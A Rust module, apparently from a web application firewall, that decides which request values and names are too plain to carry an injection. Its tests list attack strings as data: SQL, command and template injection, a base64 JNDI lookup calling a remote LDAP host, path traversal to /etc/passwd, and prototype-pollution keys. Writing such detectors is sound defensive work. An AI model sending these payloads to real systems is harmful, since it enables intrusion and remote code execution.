//! Values that cannot carry an injection, proven without the model.
//!
//! A short value made of letters, digits, spaces and a few separators, with no `..`, no `//`,
//! none of the keyword needles (SQL, HTML, shell, traversal, template, Java, PHP, ... families)
//! and no base64 reading that decodes to code ([`hides_code`]), breaks
//! out of no context the classes cover: every payload shape in them needs a quote, a bracket, an
//! operator, a slash pair, a control character, an encoding or a keyword. The filter skips the
//! model for such values (`skip_inert_values`, on by default). Running `apiward eval` with the
//! option off and on shows that no attack request changes verdict (README, model card).

use super::keywords;
use crate::request::{InspectedValue, LocationKind};

/// Longest value that can be inert, in bytes (a path: twice that).
pub const MAX_INERT_BYTES: usize = 64;

/// Words that make a plain value a SQL expression in a numeric context (`1 or 1`, `2 div 0`).
const SQL_WORDS: &[&str] = &[
    "or", "and", "xor", "not", "like", "rlike", "regexp", "div", "between", "sounds", "is", "null",
];

/// Bytes of a trivially clean value ([`crate::request::is_trivially_clean`]): letters,
/// digits, `_`, `-`.
const TRIVIAL: u8 = 1;
/// Bytes an inert value may contain: letters, digits, space, `- _ . , : @ +`.
const PLAIN: u8 = 2;
/// `/`, plain in a path.
const SLASH: u8 = 4;

/// The class bits of every byte.
static CLASSES: [u8; 256] = {
    let mut t = [0u8; 256];
    let mut i = 0;
    while i < 256 {
        let b = i as u8;
        let mut c = 0;
        if b.is_ascii_alphanumeric() || b == b'_' || b == b'-' {
            c |= TRIVIAL | PLAIN;
        }
        if matches!(b, b' ' | b'.' | b',' | b':' | b'@' | b'+') {
            c |= PLAIN;
        }
        if b == b'/' {
            c |= SLASH;
        }
        t[i] = c;
        i += 1;
    }
    t
};

/// Longest trivially clean value, in bytes.
const MAX_TRIVIAL_BYTES: usize = 64;

/// True when `value` can be left unscored: see the module documentation.
pub fn is_inert(value: &InspectedValue) -> bool {
    left_out(value.location.kind, &value.raw, false, true)
}

/// True when the inspection leaves `raw` (found at `kind`) out: it is trivially clean
/// ([`crate::request::is_trivially_clean`]) or, with `skip_inert`, inert ([`is_inert`]). One
/// pass of a byte-class table over the raw bytes (lower-casing them on the stack as it goes),
/// then the word checks on that copy; nothing is allocated or decoded.
pub fn is_left_out(kind: LocationKind, raw: &str, skip_inert: bool) -> bool {
    left_out(kind, raw, true, skip_inert)
}

fn left_out(kind: LocationKind, raw: &str, trivial_ok: bool, inert_ok: bool) -> bool {
    let raw = raw.as_bytes();
    let path = kind == LocationKind::Path;
    let max_inert = if path {
        2 * MAX_INERT_BYTES
    } else {
        MAX_INERT_BYTES
    };
    let max = match (trivial_ok, inert_ok) {
        (true, true) => max_inert.max(MAX_TRIVIAL_BYTES),
        (true, false) => MAX_TRIVIAL_BYTES,
        (false, true) => max_inert,
        (false, false) => return false,
    };
    if raw.len() > max {
        return false;
    }
    let plain = if path { PLAIN | SLASH } else { PLAIN };
    let mut trivial = true;
    // `..` climbs, `//` starts an authority, `:/` is a URL (`http:/host` is `http://host` to
    // WHATWG parsers).
    let mut pair = false;
    let mut prev = 0u8;
    let mut buf = [0u8; 2 * MAX_INERT_BYTES];
    for (&b, slot) in raw.iter().zip(buf.iter_mut()) {
        let class = CLASSES[usize::from(b)];
        // Every trivially clean byte is plain too: a byte that is not is neither.
        if class & plain == 0 {
            return false;
        }
        trivial &= class & TRIVIAL != 0;
        pair |= matches!((prev, b), (b'.', b'.') | (b'/', b'/') | (b':', b'/'));
        *slot = b.to_ascii_lowercase();
        prev = b;
    }
    if trivial_ok && trivial && raw.len() <= MAX_TRIVIAL_BYTES {
        // A high-risk PHP function's name alone is a callable passed by name
        // (`function=call_user_func_array`): the PHP rule reads it.
        let lower = buf.get(..raw.len()).unwrap_or_default();
        return !hides_code(raw) && !crate::probes::php::is_function_name(lower);
    }
    if !inert_ok || pair || raw.len() > max_inert {
        return false;
    }
    let Some(lower) = buf.get(..raw.len()) else {
        return false;
    };
    if lower.split(|b| !b.is_ascii_alphanumeric()).any(is_sql_word) {
        return false;
    }
    !keywords::any_plain_hit(lower) && !hides_code(raw)
}

/// Longest name that can be left unscored, in bytes.
pub const MAX_INERT_NAME_BYTES: usize = 64;

/// True when a parameter, cookie, multipart or JSON key *name* can be left unscored: an
/// identifier as clients build them (letters, digits, `_ - .` and bracket paths such as
/// `filter[status][0]`) that holds no Java class or gadget needle ([`keywords::name_hit`]:
/// `java.lang.Runtime`, `xmldecoder`), no prototype path ([`is_prototype_path`]) and no base64
/// reading of code. Names are where an attacker puts a payload when the values are checked
/// (`?java.lang.Runtime=1`, a form body with no `=`) and where prototype pollution lives
/// (`?__proto__[admin]=1`, `{"constructor":{"prototype":{…}}}`). The other needles and the
/// SQL words that make a plain *value* an expression are words names are made of
/// (`order_id`, `is_active`, `metadata[select]`): a name with one stays unscored. One pass over the bytes on the
/// stack; nothing is allocated.
pub fn name_is_inert(name: &str) -> bool {
    let raw = name.as_bytes();
    if raw.is_empty() || raw.len() > MAX_INERT_NAME_BYTES {
        return raw.is_empty();
    }
    let mut buf = [0u8; MAX_INERT_NAME_BYTES];
    for (&b, slot) in raw.iter().zip(buf.iter_mut()) {
        if !is_identifier_byte(b) {
            return false;
        }
        // Bracket paths read as dotted paths for the needles.
        *slot = match b {
            b'[' | b']' => b'.',
            _ => b.to_ascii_lowercase(),
        };
    }
    let Some(lower) = buf.get(..raw.len()) else {
        return false;
    };
    !is_prototype_path(lower) && !keywords::name_hit(lower) && !hides_code(raw)
}

/// True when `name` is a name as clients build them: letters, digits, `_ - .` and bracket paths
/// (`a[b][0]`, as Rails, PHP and Stripe clients send nested form fields), at most
/// [`MAX_INERT_NAME_BYTES`]. Only such a name can be inert ([`name_is_inert`]); any other is
/// judged by the rules of values.
pub fn is_identifier_name(name: &str) -> bool {
    name.len() <= MAX_INERT_NAME_BYTES && name.bytes().all(is_identifier_byte)
}

fn is_identifier_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.' | b'[' | b']')
}

/// True when a name path (lower-case; segments split on `.`, `[`, `]`) reaches an object's
/// prototype: a `__proto__` segment, or `constructor` followed by `prototype`. Merging such a
/// key into an object (`qs`, `lodash.merge`, `$.extend`, a JSON body) pollutes every object of
/// the process; no API names a field that way.
pub fn is_prototype_path(lower: &[u8]) -> bool {
    let mut prev: &[u8] = b"";
    for seg in lower.split(|&b| matches!(b, b'.' | b'[' | b']')) {
        if seg.is_empty() {
            continue;
        }
        if seg == b"__proto__" || (prev == b"constructor" && seg == b"prototype") {
            return true;
        }
        prev = seg;
    }
    false
}

/// Shortest value whose base64 reading is checked for code.
const MIN_ENCODED_CODE: usize = 16;

/// Whether `raw` (letters, digits and plain separators only) is base64 that decodes to code
/// of the Java, PHP, serialisation or JNDI families (`JHtqbmRpOmxkYXA6...` is
/// `${jndi:ldap:...`): such a value is plain but not inert.
pub fn hides_code(raw: &[u8]) -> bool {
    raw.len() >= MIN_ENCODED_CODE && super::magic::decoded_code_keywords(raw) > 0
}

/// One of [`SQL_WORDS`] (lower-case).
fn is_sql_word(word: &[u8]) -> bool {
    // Most words are longer than any SQL word or start with a letter none starts with.
    matches!(word.len(), 2..=7)
        && matches!(
            word.first(),
            Some(b'o' | b'a' | b'x' | b'n' | b'l' | b'r' | b'd' | b'b' | b's' | b'i')
        )
        && SQL_WORDS.iter().any(|w| w.as_bytes() == word)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn value(kind: LocationKind, raw: &str) -> InspectedValue {
        InspectedValue::new(kind, "v", raw)
    }

    /// `is_inert` as it was before the byte-class table, kept as the reference.
    fn is_inert_reference(value: &InspectedValue) -> bool {
        let raw = value.raw.as_bytes();
        let path = value.location.kind == LocationKind::Path;
        let max = if path {
            2 * MAX_INERT_BYTES
        } else {
            MAX_INERT_BYTES
        };
        if raw.len() > max {
            return false;
        }
        let plain = |b: u8| {
            b.is_ascii_alphanumeric()
                || matches!(b, b' ' | b'-' | b'_' | b'.' | b',' | b':' | b'@' | b'+')
                || (path && b == b'/')
        };
        if !raw.iter().copied().all(plain) {
            return false;
        }
        if raw
            .windows(2)
            .any(|w| w == b".." || w == b"//" || w == b":/")
        {
            return false;
        }
        let lower = value.raw.to_ascii_lowercase();
        if lower
            .split(|c: char| !c.is_ascii_alphanumeric())
            .any(|word| SQL_WORDS.contains(&word))
        {
            return false;
        }
        keywords::family_hits(&lower).iter().all(|&n| n == 0) && !hides_code(raw)
    }

    #[test]
    fn names_are_inert_unless_they_carry_a_needle_or_a_prototype_step() {
        for name in [
            "",
            "user_id",
            "page.size",
            "filter[status][0]",
            "expand[]",
            "is_active",
            "order_id",
            "select_all",
            "prototype",
            "prototype_id",
            "constructor",
            "proto",
            "X-Request-Id",
        ] {
            assert!(name_is_inert(name), "{name}");
        }
        for name in [
            "__proto__",
            "__PROTO__[admin]",
            "a[__proto__][b]",
            "__proto__.isAdmin",
            "constructor[prototype][x]",
            "a.constructor.prototype.b",
            "java.lang.Runtime",
            "java.beans.XMLDecoder",
            "org.apache.commons.collections.functors.InvokerTransformer",
            // Not an identifier at all: values' rules decide.
            "a b",
            "<script>",
        ] {
            assert!(!name_is_inert(name), "{name}");
        }
        assert!(!name_is_inert(&"a".repeat(MAX_INERT_NAME_BYTES + 1)));
        assert!(is_prototype_path(b"x.constructor[prototype]"));
        assert!(!is_prototype_path(b"constructor.x.prototype"));
    }

    #[test]
    fn base64_of_code_is_not_left_out() {
        // `${jndi:ldap://203.0.113.9:1389/Basic/Command/id}`: 64 letters and digits.
        let jndi = "JHtqbmRpOmxkYXA6Ly8yMDMuMC4xMTMuOToxMzg5L0Jhc2ljL0NvbW1hbmQvaWR9";
        assert!(!crate::request::is_trivially_clean(jndi));
        assert!(!is_left_out(LocationKind::Query, jndi, true));
        // Ids and tokens of the same alphabet still are.
        for raw in [
            "9f86d081884c7d659a2feaa0c55ad015",
            "dXNlcjoxMjM0NTY3ODkw",
            "c2Vzc2lvbi0yMDI2LTEyLTA3",
        ] {
            assert!(is_left_out(LocationKind::Query, raw, true), "{raw}");
        }
    }

    #[test]
    fn one_pass_equals_the_separate_checks() {
        const PIECES: &[&str] = &[
            "a", "Z", "7", " ", "-", "_", ".", ",", ":", "@", "+", "/", "'", "%", "\\", "or", "OR",
            "select ", "union", "..", "//", "http:", "\u{e9}", "\n", "x", "is", "1",
        ];
        let mut state = 0x2545_f491_4f6c_dd1du64;
        let mut next = move || {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            state
        };
        for _ in 0..50_000 {
            let n = (next() % 40) as usize;
            let raw: String = (0..n)
                .map(|_| PIECES[(next() % PIECES.len() as u64) as usize])
                .collect();
            for kind in [LocationKind::Path, LocationKind::Query, LocationKind::Json] {
                let v = value(kind, &raw);
                let inert = is_inert_reference(&v);
                let trivial = crate::request::is_trivially_clean(&raw);
                assert_eq!(is_inert(&v), inert, "{kind:?} {raw:?}");
                assert_eq!(is_left_out(kind, &raw, true), trivial || inert, "{raw:?}");
                assert_eq!(is_left_out(kind, &raw, false), trivial, "{raw:?}");
            }
        }
    }

    #[test]
    fn sql_word_prefilter_lets_every_word_through() {
        for w in SQL_WORDS {
            assert!(is_sql_word(w.as_bytes()), "{w}");
        }
        assert!(!is_sql_word(b"orb") && !is_sql_word(b"") && !is_sql_word(b"o"));
    }

    #[test]
    fn ordinary_api_values_are_inert() {
        for raw in [
            "2024-05-14T09:21:37Z",
            "alan.torvalds@example.com",
            "Cast iron pan, sand",
            "31 Station Road",
            "PO-2024-367459",
            "142.6",
            "blue garden hose",
            "en-GB,en",
            "",
        ] {
            assert!(is_inert(&value(LocationKind::Json, raw)), "{raw:?}");
        }
        assert!(is_inert(&value(
            LocationKind::Path,
            "/api/v1/customers/48213/orders"
        )));
    }

    #[test]
    fn anything_that_can_break_out_is_scored() {
        for raw in [
            "1 or 1",
            "1 OR 1",
            "1 and 0",
            "2 div 0",
            "1 union all select 1,2",
            "x' or '1'='1",
            "1;id",
            "a|b",
            "$(id)",
            "${jndi:ldap:x}",
            "{{7*7}}",
            "<b>",
            "javascript:alert(1)",
            "http://127.0.0.1/",
            "..",
            "....",
            "a%0d%0ab",
            "line\nbreak",
            "tab\there",
            "{\"$gt\":\"\"}",
            "admin)(|(a=*",
            "caf\u{e9}",
            "sleep 10",
            "cat notes.txt",
            "x=1",
            &"a".repeat(MAX_INERT_BYTES + 1),
        ] {
            assert!(!is_inert(&value(LocationKind::Query, raw)), "{raw:?}");
        }
        for path in [
            "/api/../etc/passwd",
            "/fetch//10.0.0.1",
            "/a%2e%2e/b",
            "/proxy/http:/x",
            "/files/etc/passwd",
        ] {
            assert!(!is_inert(&value(LocationKind::Path, path)), "{path:?}");
        }
        // A slash is only plain in the path.
        assert!(!is_inert(&value(LocationKind::Query, "a/b")));
    }
}
